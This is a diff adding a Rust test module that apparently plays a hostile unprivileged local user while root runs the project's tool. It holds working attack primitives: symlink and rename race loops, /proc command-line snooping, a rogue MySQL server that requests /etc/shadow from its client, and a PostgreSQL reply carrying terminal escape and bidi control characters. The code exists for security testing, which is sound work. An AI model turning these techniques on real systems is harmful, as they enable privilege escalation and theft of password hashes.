@@ -1,0 +1,234 @@
+//! The stranger, who has an account and no more, and what he does while root runs something.
+//!
+//! What he does in a loop is done by this very program under his uid: it executes itself to run [`acts`], whose arguments
+//! are in the environment. He is killed when his guard is dropped.
+
+use std::env;
+use std::fs;
+use std::io::{Read as _, Write as _};
+use std::os::fd::AsRawFd as _;
+use std::os::unix::fs::symlink;
+use std::os::unix::net::{UnixListener, UnixStream};
+use std::os::unix::process::CommandExt as _;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+use rustix::fs::{CWD, Mode, OFlags, RenameFlags, renameat_with};
+
+use super::ground::Ground;
+
+/// His uid and gid, of no account.
+pub const UID: u32 = 4242;
+
+/// Somebody else, who is no friend of his.
+pub const OTHER: u32 = 4343;
+
+/// Which act, and its arguments, a line each.
+const ACT: &str = "WALWISE_ACT";
+
+/// Any program as the stranger.
+pub fn stranger(program: impl AsRef<Path>) -> Command {
+    as_uid(UID, program)
+}
+
+/// Any program as somebody, without supplementary groups, which the standard library takes from who was root.
+pub fn as_uid(uid: u32, program: impl AsRef<Path>) -> Command {
+    let mut command = Command::new(program.as_ref());
+    command.uid(uid).gid(uid).current_dir("/").stdin(Stdio::null());
+    command.env_clear().env("PATH", "/usr/bin:/bin").env("LC_ALL", "C");
+    command
+}
+
+/// What he does while root runs something.
+#[derive(Clone, Debug)]
+pub enum Act {
+    /// Exchanges two names, without end.
+    Exchange(PathBuf, PathBuf),
+    /// Waits until somebody opens a fifo, whatever its name is then, and makes a file that says so.
+    Await(PathBuf, PathBuf),
+    /// As soon as the first name is there, moves it to the second and puts a link to the third in its place; again and
+    /// again.
+    Steal(PathBuf, PathBuf, PathBuf),
+    /// Listens on a socket and answers in this way.
+    Listen(PathBuf, Answer),
+    /// Looks through the command lines of all processes for a word; makes a directory of that name in a directory and
+    /// writes what was seen to a file.
+    Peek(String, PathBuf, PathBuf),
+}
+
+/// How a socket answers.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Answer {
+    /// It takes connections and is silent.
+    Never,
+    /// It sends as much as is taken.
+    Flood,
+    /// A MySQL server that asks its client for /etc/shadow; what it is sent goes to the file `SOCKET.got`.
+    WantsFile,
+    /// A PostgreSQL server that answers with control characters.
+    Escapes,
+}
+
+impl Answer {
+    /// All of them.
+    pub const ALL: [Self; 4] = [Self::Never, Self::Flood, Self::WantsFile, Self::Escapes];
+}
+
+impl Act {
+    fn words(&self) -> String {
+        let path = |path: &Path| path.to_str().unwrap().to_owned();
+        let words = match self {
+            Self::Exchange(a, b) => vec!["exchange".to_owned(), path(a), path(b)],
+            Self::Await(fifo, to) => vec!["await".to_owned(), path(fifo), path(to)],
+            Self::Steal(name, to, link) => vec!["steal".to_owned(), path(name), path(to), path(link)],
+            Self::Listen(socket, answer) => vec!["listen".to_owned(), path(socket), format!("{answer:?}")],
+            Self::Peek(word, place, to) => vec!["peek".to_owned(), word.clone(), path(place), path(to)],
+        };
+        words.join("\n")
+    }
+
+    fn of(words: &str) -> Self {
+        let words: Vec<&str> = words.lines().collect();
+        let path = |n: usize| PathBuf::from(words[n]);
+        match words[0] {
+            "exchange" => Self::Exchange(path(1), path(2)),
+            "await" => Self::Await(path(1), path(2)),
+            "steal" => Self::Steal(path(1), path(2), path(3)),
+            "listen" => {
+                let answer = Answer::ALL.into_iter().find(|answer| format!("{answer:?}") == words[2]);
+                Self::Listen(path(1), answer.unwrap())
+            }
+            "peek" => Self::Peek(words[1].to_owned(), path(2), path(3)),
+            other => panic!("no act {other}"),
+        }
+    }
+
+    /// Does it, as somebody, until the guard is dropped. What is to be seen of it at first is waited for.
+    pub fn start(&self, ground: &Ground, uid: u32) -> Doing {
+        let program = ground.at("stranger");
+        if !program.exists() {
+            // Where it was built nobody else may look.
+            fs::copy(env::current_exe().unwrap(), &program).unwrap();
+        }
+        let mut command = as_uid(uid, &program);
+        command.args(["stranger::acts", "--exact", "--ignored", "--nocapture"]).env(ACT, self.words());
+        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+        let mut out = child.stdout.take().unwrap();
+        // It says so when it has begun.
+        let (mut said, mut byte) = (Vec::new(), [0]);
+        while !said.ends_with(BEGUN.as_bytes()) {
+            assert_eq!(out.read(&mut byte).unwrap(), 1, "{self:?}: {}", String::from_utf8_lossy(&said));
+            said.push(byte[0]);
+        }
+        Doing(child)
+    }
+}
+
+/// What is said when an act has begun.
+const BEGUN: &str = "begun\n";
+
+/// Somebody who does something.
+pub struct Doing(Child);
+
+impl Drop for Doing {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// The stranger's side; nothing when nobody asked for it.
+#[test]
+#[ignore = "needs root: what strangers do while root runs something; started by the attacks"]
+fn acts() {
+    let Ok(words) = env::var(ACT) else { return };
+    rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::KILL)).unwrap();
+    let begun = || std::io::stdout().lock().write_all(BEGUN.as_bytes()).unwrap();
+    match Act::of(&words) {
+        Act::Exchange(a, b) => {
+            begun();
+            loop {
+                let _ = renameat_with(CWD, &a, CWD, &b, RenameFlags::EXCHANGE);
+            }
+        }
+        Act::Await(fifo, to) => {
+            let held = rustix::fs::open(&fifo, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).unwrap();
+            begun();
+            // It is open for writing when somebody has it open for reading.
+            let it = format!("/proc/self/fd/{}", held.as_raw_fd());
+            fs::OpenOptions::new().write(true).open(it).unwrap();
+            fs::write(to, "opened").unwrap();
+        }
+        Act::Steal(name, to, link) => {
+            begun();
+            loop {
+                if fs::rename(&name, &to).is_ok() {
+                    let _ = symlink(&link, &name);
+                }
+                std::thread::yield_now();
+            }
+        }
+        Act::Listen(socket, answer) => {
+            let listener = UnixListener::bind(&socket).unwrap();
+            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o777);
+            fs::set_permissions(&socket, mode).unwrap();
+            begun();
+            let mut held = Vec::new();
+            for stream in listener.incoming().flatten() {
+                held.push(stream.try_clone().unwrap());
+                let socket = socket.clone();
+                std::thread::spawn(move || reply(stream, answer, &socket));
+            }
+        }
+        Act::Peek(word, place, to) => {
+            begun();
+            peek(&word, &place, &to);
+        }
+    }
+}
+
+fn reply(mut stream: UnixStream, answer: Answer, socket: &Path) {
+    match answer {
+        Answer::Never => {}
+        Answer::Flood => {
+            let much = [b'D', 0, 0, 0, 200, 7].repeat(10_000);
+            while stream.write_all(&much).is_ok() {}
+        }
+        Answer::Escapes => {
+            let said = "\u{1b}]0;owned\u{7}\u{202e}\nEVIL=1";
+            let body = format!("SFATAL\0C28000\0M{said}\0\0");
+            let length = u32::try_from(body.len() + 4).unwrap().to_be_bytes();
+            let _ = stream.write_all(&[b"E", &length[..], body.as_bytes()].concat());
+        }
+        Answer::WantsFile => {
+            // A greeting of protocol 10, welcome, and in answer to the query "send me your file".
+            let greeting = b"\x0a10.11.6-MariaDB\0\x01\0\0\0abcdefgh\0\xff\xf7\x21\x02\0\xff\x81\x15\0\0\0\0\0\0\0\0\0\0abcdefghijkl\0mysql_native_password\0";
+            let mut got = Vec::new();
+            let mut heard = vec![0; 1 << 16];
+            for (number, body) in [(0, &greeting[..]), (2, b"\0\0\0\x02\0\0\0"), (1, b"\xfb/etc/shadow")] {
+                let length = u32::try_from(body.len()).unwrap().to_le_bytes();
+                let packet = [&length[..3], &[number], body].concat();
+                if stream.write_all(&packet).is_err() {
+                    return;
+                }
+                let count = stream.read(&mut heard).unwrap_or(0);
+                got = heard[..count].to_vec();
+            }
+            let _ = fs::write(format!("{}.got", socket.display()), got);
+        }
+    }
+}
+
+fn peek(word: &str, place: &Path, to: &Path) {
+    loop {
+        for entry in fs::read_dir("/proc").unwrap().flatten() {
+            let Ok(text) = fs::read(entry.path().join("cmdline")) else { continue };
+            let text = String::from_utf8_lossy(&text).into_owned();
+            let seen = text.split('\0').find(|argument| argument.starts_with(word));
+            if let Some(name) = seen {
+                let _ = fs::create_dir(place.join(name));
+                let _ = fs::write(to, &text);
+            }
+        }
+    }
+}
